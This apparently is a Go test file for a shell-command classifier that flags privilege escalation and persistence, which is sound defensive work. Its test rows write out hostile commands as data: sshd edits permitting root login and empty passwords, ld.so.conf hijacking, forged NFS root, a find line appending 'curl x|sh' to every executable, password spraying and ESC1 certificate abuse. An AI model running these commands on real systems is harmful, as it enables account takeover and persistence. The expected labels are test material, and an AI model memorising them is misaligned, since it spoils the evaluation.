package danger

import "testing"

// TestRootByOtherPrograms: running as root or another user by the
// programs beside su and sudo (runuser(1), setpriv(1), capsh(1),
// machinectl shell), setuid bits set by install(1), privileged pods
// (kubectl run --privileged), and FreeBSD's pw(8) account verbs. The
// README: running as another user and setuid bits are
// privilege-escalation, and so are accounts and group memberships
// changed. Their read-only forms stay everyday.
func TestRootByOtherPrograms(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"runuser -u postgres -- psql", PrivilegeEscalation},
		{"runuser -l alice -c 'id'", PrivilegeEscalation},
		{"setpriv --reuid=0 --regid=0 --init-groups sh", PrivilegeEscalation},
		{"capsh --gid=0 --uid=0 --", PrivilegeEscalation},
		{"machinectl shell root@", PrivilegeEscalation},
		{"machinectl shell alice@.host", PrivilegeEscalation},
		{"install -m 4755 x /usr/local/bin/x", PrivilegeEscalation},
		{"install -o root -m u+s helper /opt/helper", PrivilegeEscalation},
		{"kubectl run x --image=alpine --privileged -it -- sh", PrivilegeEscalation},
		{"pw groupmod wheel -m alice", PrivilegeEscalation},
		{"pw useradd bob -m -s /bin/sh", PrivilegeEscalation},
		{"pw userdel bob", PrivilegeEscalation},
		{"setpriv --dump", ""},
		{"capsh --print", ""},
		{"machinectl list", ""},
		{"install -m 755 tool ~/bin/tool", ""},
		{"install -d -m 0750 build/out", ""},
		{"kubectl run x --image=alpine --restart=Never -- echo hi", ""},
		{"pw usershow alice", ""},
		{"pw groupshow wheel", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestLoginSettingsAndLoaderConfig: sshd's login settings and PAM's
// access table decide who logs in (README: "edits of sudoers, PAM or
// sshd's login settings" are privilege-escalation; the ssh client's own
// settings are not, heldout4's m1488); ld.so's configuration decides
// which libraries every program loads (the brief's "ld.so preload/config":
// persistence); docker run --mount binding a system folder writable is a
// container given the host, as -v is.
func TestLoginSettingsAndLoaderConfig(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config", PrivilegeEscalation},
		{"sed -i 's/#PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config", PrivilegeEscalation},
		{"echo 'PermitEmptyPasswords yes' > /etc/ssh/sshd_config.d/99.conf", PrivilegeEscalation},
		{"echo '+ : ALL : ALL' >> /etc/security/access.conf", PrivilegeEscalation},
		{"vim /etc/ssh/sshd_config", PrivilegeEscalation},
		{"echo /tmp > /etc/ld.so.conf.d/evil.conf", PersistenceStartupFiles},
		{"echo /tmp/lib >> /etc/ld.so.conf", PersistenceStartupFiles},
		{"docker run --mount type=bind,source=/etc,target=/h alpine", PrivilegeEscalation},
		{"docker run --mount type=bind,src=/root,dst=/r alpine", PrivilegeEscalation},
		{"cat /etc/ssh/sshd_config", ""},
		{"grep PermitRootLogin /etc/ssh/sshd_config", ""},
		{"cat /etc/ld.so.conf.d/*.conf", ""},
		{"docker run --mount type=bind,source=/etc,target=/h,readonly alpine", ""},
		{"docker run --mount type=volume,source=data,target=/data alpine", ""},
		{"docker run --mount type=bind,source=./src,target=/src alpine", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestDirectoryAdministration: accounts and login policy changed in
// directories and PAM by their own tools (the README: accounts created,
// deleted or given a password, group or shell, ldapadd included, and
// edits of PAM are privilege-escalation): ldapdelete, ldapmodify and
// ldapmodrdn; samba-tool's user and group verbs; FreeIPA's *-add, *-del,
// *-mod and member verbs; realm permit|deny|join|leave; pdbedit's
// account options; authselect, authconfig --update and pam-auth-update
// rewriting PAM. Searches, listings, shows and tickets stay everyday.
func TestDirectoryAdministration(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`ldapdelete -x -D cn=admin,dc=x -W "uid=alice,ou=people,dc=x"`, PrivilegeEscalation},
		{"ldapmodify -x -D cn=admin,dc=x -W -f change.ldif", PrivilegeEscalation},
		{"ldapmodrdn -x -D cn=admin,dc=x -W uid=alice,dc=x uid=bob", PrivilegeEscalation},
		{"samba-tool user create alice", PrivilegeEscalation},
		{"samba-tool user disable alice", PrivilegeEscalation},
		{`samba-tool group addmembers "Domain Admins" alice`, PrivilegeEscalation},
		{"ipa group-add-member admins --users=alice", PrivilegeEscalation},
		{"ipa user-mod alice --shell=/bin/bash", PrivilegeEscalation},
		{"ipa sudorule-add-user allow_all --users=alice", PrivilegeEscalation},
		{"realm permit alice@EXAMPLE.COM", PrivilegeEscalation},
		{"realm deny --all", PrivilegeEscalation},
		{"pdbedit -a alice", PrivilegeEscalation},
		{"pdbedit -x alice", PrivilegeEscalation},
		{"authselect select sssd with-mkhomedir --force", PrivilegeEscalation},
		{"authconfig --enablemkhomedir --update", PrivilegeEscalation},
		{"pam-auth-update --enable mkhomedir", PrivilegeEscalation},
		{"ldapsearch -x -b dc=x uid=alice", ""},
		{"ldapmodify -n -f change.ldif", ""}, // -n: show what would change
		{"samba-tool user list", ""},
		{"samba-tool group listmembers admins", ""},
		{"ipa user-find alice", ""},
		{"ipa user-show alice", ""},
		{"realm list", ""},
		{"realm discover example.com", ""},
		{"pdbedit -L", ""},
		{"authselect current", ""},
		{"authconfig --test", ""},
		{"kinit alice", ""},
		{"klist", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestForgedAndSpreadWrites: a forged NFS identity (libnfs's LD_NFS_UID=0,
// or uid=0 in an nfs:// URL) acting on a share as root (README: "a forged
// NFS uid 0 acting on a share is privilege-escalation"), and text
// appended to every executable a search of the whole system finds
// (heldout5's CALDERA ability: persistence, as an append to one startup
// file is).
func TestForgedAndSpreadWrites(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"LD_NFS_UID=0 LD_LIBRARY_PATH=./lib/.libs/ LD_PRELOAD=./ld_nfs.so chown root: nfs://nfs-server/nfs_root/a.out", PrivilegeEscalation},
		{"LD_NFS_UID=0 LD_PRELOAD=./ld_nfs.so cp ../a.out nfs://nfs-server/nfs_root/", PrivilegeEscalation},
		{"nfs-cp ./sh 'nfs://10.0.0.5/export/sh?uid=0&gid=0'", PrivilegeEscalation},
		{"LD_NFS_UID=1000 LD_PRELOAD=./ld_nfs.so ls nfs://nfs-server/nfs_root/", ""},
		{"nfs-ls nfs://10.0.0.5/export", ""},
		{`find / -type f -perm -333 -exec sh -c 'echo "curl x|sh" >> "{}"' \;`, PersistenceStartupFiles},
		{`find /usr/local/bin -executable -type f -exec sh -c 'echo /tmp/x >> {}' \;`, PersistenceStartupFiles},
		{`find . -name '*.log' -exec sh -c 'echo done >> "{}"' \;`, ""},
		{`find / -perm -4000 -type f 2>/dev/null`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestLoginsAsOthers: remote execution and shells as an account whose
// password or hash the line holds (NetExec/CrackMapExec, evil-winrm, as
// psexec.py's USER:PASSWORD@HOST), password spraying, and a certificate requested in another user's name (certipy
// req -upn): the README's "logins with others' credentials … are
// privilege-escalation". Enumeration without credentials stays everyday.
func TestLoginsAsOthers(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"crackmapexec smb 10.0.0.0/24 -u users.txt -p passwords.txt", PrivilegeEscalation},
		{"nxc smb 10.0.0.5 -u admin -p 'P@ss' -x whoami", PrivilegeEscalation},
		{"evil-winrm -i 10.0.0.5 -u administrator -p 'P@ssw0rd'", PrivilegeEscalation},
		// medusa is a login cracker as hydra, everyday in the labelling
		// rules ("hydra and msf login scanners … as hydra was").
		{"medusa -h 10.0.0.5 -U users.txt -P pass.txt -M ssh", ""},
		{"certipy req -u user@corp.local -p pass -ca CORP-CA -template ESC1 -upn administrator@corp.local", PrivilegeEscalation},
		{"nxc smb 10.0.0.0/24", ""},
		{"crackmapexec smb 10.0.0.0/24 --gen-relay-list relay.txt", ""},
		{"evil-winrm --help", ""},
		{"certipy find -u user@corp.local -p pass -vulnerable", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
